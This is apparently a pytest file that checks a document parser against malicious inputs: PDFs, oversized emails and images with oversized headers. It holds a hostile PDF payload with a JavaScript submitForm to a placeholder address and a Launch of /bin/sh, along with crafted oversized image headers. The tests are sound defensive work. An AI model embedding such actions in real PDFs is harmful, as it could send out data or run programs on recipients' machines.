"""Malicious files are read in bounded time and memory, or fail with a reason."""

from email.message import EmailMessage
from pathlib import Path

import pytest

from app.engines.documents import iterate_attachments, parse, render
from app.engines.documents.media import IMAGE_TYPES, MAIL, PDF
from tests.engines.documents import samples
from tests.engines.documents.parsing import get_parse_failure

_ACTIONS = (
    b"/OpenAction <</S /JavaScript /JS (this.submitForm('http://192.0.2.1/'))>>"
    b"/AA <</WC <</S /Launch /F (/bin/sh)>>>>"
)


def _add_scripts(data: bytes) -> bytes:
    """Return the PDF with actions that run a script and a program when it is opened or closed.

    This makes the cross-reference table wrong; PDF readers repair it.
    """
    catalog = b"/Type /Catalog"
    assert data.count(catalog) == 1
    return data.replace(catalog, catalog + _ACTIONS)


def test_the_scripts_of_a_pdf_do_not_run(tmp_path: Path) -> None:
    plain = samples.stored(tmp_path, samples.pdf())
    (text, image) = (parse(plain, PDF).text, render(plain, PDF, 1, width_px=300))
    scripted = samples.stored(tmp_path, _add_scripts(samples.pdf()))
    assert b"/JavaScript" in scripted.read_bytes()
    assert parse(scripted, PDF).text == text
    assert render(scripted, PDF, 1, width_px=300) == image


def test_ten_thousand_attachments(tmp_path: Path) -> None:
    part = (
        "--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename=a{0}.txt\n\n{0}"
    )
    parts = "\n".join(part.format(number) for number in range(10_000))
    data = f"Subject: Many\nContent-Type: multipart/mixed; boundary=b\n\n{parts}\n--b--\n"
    path = samples.stored(tmp_path, data.encode())
    assert parse(path, MAIL).text.startswith("Subject: Many\n\nAttachments: a0.txt, a1.txt")
    names = [attachment.name for attachment in iterate_attachments(path, MAIL)]
    assert names == [f"a{number}.txt" for number in range(1_000)]


def test_a_name_of_four_kilobytes_in_an_email(tmp_path: Path) -> None:
    mail = EmailMessage()
    mail["Subject"] = "x" * 4096
    mail.add_attachment(b"A", "text", "plain", filename="n" * 4096 + ".txt")
    (attachment,) = iterate_attachments(samples.stored(tmp_path, mail), MAIL)
    assert len(attachment.name) == 255
    assert attachment.name.endswith("n.txt")


@pytest.mark.parametrize("media_type", ["image/png", "image/gif", "image/bmp"])
def test_an_image_of_sixty_thousand_pixels_square(tmp_path: Path, media_type: str) -> None:
    assert media_type in IMAGE_TYPES
    head = {
        "image/png": samples.png_claiming(60_000, 60_000),
        "image/gif": b"GIF89a" + (60_000).to_bytes(2, "little") * 2 + bytes(3) + b"," + bytes(4)
        + (60_000).to_bytes(2, "little") * 2 + b"\0\2\2\x4c\1\0;",
        "image/bmp": b"BM" + bytes(8) + (54).to_bytes(4, "little") + (40).to_bytes(4, "little")
        + (60_000).to_bytes(4, "little") * 2 + b"\1\0\x18\0" + bytes(24),
    }[media_type]  # fmt: skip
    assert get_parse_failure(tmp_path, head, media_type).code == "too_many_pixels"
